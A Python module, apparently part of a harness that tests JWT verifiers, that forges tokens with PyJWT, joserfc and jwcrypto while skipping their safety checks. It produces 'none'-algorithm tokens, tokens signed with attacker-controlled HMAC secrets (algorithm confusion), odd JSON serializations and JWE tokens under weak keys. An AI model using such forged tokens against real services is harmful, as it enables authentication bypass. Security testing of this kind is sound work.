"""Forges tokens with Python libraries. Each library signs and serializes with its own code, but its checks are skipped.

If a check of a library refuses a token (for example a PEM as a secret, or an unknown name), this module calls
the function behind the check directly. If the library has no such function, the token is skipped.
"""

import functools
import json
import warnings

import joserfc.jwe
import joserfc.jws
import jwcrypto.common
import jwcrypto.jwa
import jwcrypto.jwe
import jwcrypto.jwk
import jwcrypto.jws
import jwt
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from joserfc.jwk import ECKey, OctKey, OKPKey, RSAKey

from keys import b64

warnings.simplefilter("ignore")


def pem_of(key):
    return key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())


def compact(header, payload, signature):
    signing_input = header + b"." + b64(payload).encode()
    return (signing_input + b"." + b64(signature(signing_input)).encode()).decode()


def dumps(value, **options):
    return json.dumps(value, separators=(",", ":"), **options).encode()


class PyJwt:
    name = "PyJWT"

    @functools.cache  # parsing an RSA key is slow
    def key(self, algorithm, key):
        return key if isinstance(key, bytes) else algorithm.prepare_key(pem_of(key))

    def make(self, job, key):
        algorithm = jwt.get_algorithm_by_name(job["alg"])
        key = self.key(algorithm, key)
        header = b64(dumps(job["header"])).encode()
        return compact(header, job["payload"], lambda data: algorithm.sign(data, key))

    def extra(self, recipes):
        claims = recipes.claims
        yield "none", jwt.encode(claims, None, "none", {"typ": "at+jwt", "kid": recipes.kid})
        yield "none, key", jwt.encode(claims, "", "none", {"kid": recipes.kid, "jwk": {"kty": "oct", "k": ""}})


class Joserfc:
    name = "joserfc"

    @functools.cache
    def key(self, key):
        if isinstance(key, bytes):
            return OctKey.import_key(key)
        family = {"RSA": RSAKey, "Elliptic": ECKey, "ECP": ECKey}
        kind = next((kind for name, kind in family.items() if name in type(key).__name__), OKPKey)
        return kind.import_key(pem_of(key))

    def make(self, job, key):
        algorithm, key = joserfc.jws.JWSRegistry.algorithms[job["alg"]], self.key(key)
        header = joserfc.util.json_b64encode(job["header"])
        return compact(header, job["payload"], lambda data: algorithm.sign(data, key))

    def extra(self, recipes):
        payload, secret = dumps(recipes.claims), OctKey.import_key(recipes.attackers["HS256"])
        registry = joserfc.jws.JWSRegistry(strict_check_header=False, algorithms=["HS256"])
        head = {"alg": "HS256", "typ": "at+jwt", "kid": recipes.kid}
        for headers in ({"protected": head}, {"protected": {"alg": "HS256"}, "header": {"kid": recipes.kid}}):
            token = joserfc.jws.serialize_json(headers, payload, secret, registry=registry)
            yield "flattened", json.dumps(token)
            yield (
                "general",
                json.dumps(joserfc.jws.serialize_json([headers], payload, secret, registry=registry)),
            )
            yield "flattened, encoded", b64(dumps(token))
        yield from self.encrypted(recipes, payload)

    def encrypted(self, recipes, payload):
        models = joserfc.jwe.JWERegistry.algorithms
        registry = joserfc.jwe.JWERegistry(
            algorithms=[*models["alg"], *models["enc"]], strict_check_header=False
        )
        own = recipes.keys["own"]
        own = None if isinstance(own, bytes) or recipes.alg == "EdDSA" else self.key(own)
        for alg in models["alg"]:
            for enc in models["enc"]:
                size = models["enc"][enc].cek_size
                wide = {"A128": 16, "A192": 24, "A256": 32}.get(alg[:4], size // 8)
                keys = [OctKey.import_key(b"k" * wide)] if "RSA" not in alg and "ECDH" not in alg else []
                if own is not None and ("RSA" in alg) == (recipes.alg == "RS256") and not keys:
                    keys.append(own)
                for key in keys:
                    head = {"alg": alg, "enc": enc, "typ": "at+jwt", "kid": recipes.kid, "cty": "JWT"}
                    yield from attempt(
                        f"JWE {alg} {enc}",
                        lambda: joserfc.jwe.encrypt_compact(head, payload, key, registry=registry),
                    )


class JwCrypto:
    name = "jwcrypto"

    @functools.cache
    def key(self, key):
        if isinstance(key, bytes):
            return jwcrypto.jwk.JWK(kty="oct", k=b64(key))
        return jwcrypto.jwk.JWK.from_pem(pem_of(key))

    def make(self, job, key):
        algorithm, key = jwcrypto.jwa.JWA.signing_alg(job["alg"]), self.key(key)
        header = b64(jwcrypto.common.json_encode(job["header"]).encode()).encode()
        return compact(header, job["payload"], lambda data: algorithm.sign(key, data))

    def extra(self, recipes):
        payload = dumps(recipes.claims)
        for headers in (
            {"protected": {"alg": "HS256", "kid": recipes.kid}},
            {"header": {"alg": "HS256", "typ": "at+jwt", "kid": recipes.kid}},
        ):
            token = jwcrypto.jws.JWS(payload)
            headers = {name: json.dumps(fields) for name, fields in headers.items()}
            token.add_signature(self.key(recipes.attackers["HS256"]), "HS256", **headers)
            yield "flattened", token.serialize()
            yield "flattened, encoded", b64(token.serialize().encode())
            token.add_signature(
                self.key(recipes.attackers["HS512"]), "HS512", protected=json.dumps({"alg": "HS512"})
            )
            yield "general", token.serialize()
        yield from self.encrypted(recipes, payload)

    def encrypted(self, recipes, payload):
        own = recipes.keys["own"]
        own = None if isinstance(own, bytes) or recipes.alg == "EdDSA" else self.key(own)
        encs = ["A128CBC-HS256", "A192CBC-HS384", "A256CBC-HS512", "A128GCM", "A192GCM", "A256GCM"]
        public = (
            ["RSA1_5", "RSA-OAEP", "RSA-OAEP-256"]
            if recipes.alg == "RS256"
            else ["ECDH-ES", "ECDH-ES+A128KW", "ECDH-ES+A256KW"]
        )
        shared = [
            "A128KW",
            "A192KW",
            "A256KW",
            "A128GCMKW",
            "A256GCMKW",
            "PBES2-HS256+A128KW",
            "PBES2-HS512+A256KW",
            "dir",
        ]
        for alg in (public if own is not None else []) + shared:
            for enc in encs:
                head = {"alg": alg, "enc": enc, "typ": "at+jwt", "kid": recipes.kid}
                size = (
                    jwcrypto.jwa.JWA.encryption_alg(enc).wrap_key_size // 8
                    if alg == "dir"
                    else int(alg[1:4]) // 8
                    if alg[0] == "A"
                    else 32
                )
                key = own if alg in public else self.key(b"k" * size)

                def encrypt():
                    token = jwcrypto.jwe.JWE(payload, json.dumps(head), algs=[alg, enc])
                    token.add_recipient(key)
                    return token.serialize(compact=True)

                yield from attempt(f"JWE {alg} {enc}", encrypt)


def attempt(what, make):
    """Yields one token, or nothing if the library can't create it."""
    try:
        yield what, make()
    except Exception:  # the library can't create this token
        return


LIBRARIES = [PyJwt(), Joserfc(), JwCrypto()]
